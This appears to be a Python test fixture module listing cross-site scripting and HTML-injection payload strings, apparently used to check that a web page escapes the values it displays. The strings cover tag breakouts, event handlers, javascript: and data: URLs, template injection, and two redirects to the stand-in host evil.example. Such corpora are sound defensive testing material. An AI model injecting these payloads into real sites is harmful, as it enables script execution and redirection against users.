"""Values that want to be obeyed by a page that shows them."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '<a href="javascript:alert(1)">a</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>b",
    "\u202e<script>\x00alert(1)\x1b[31m</script>\ud800",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
)
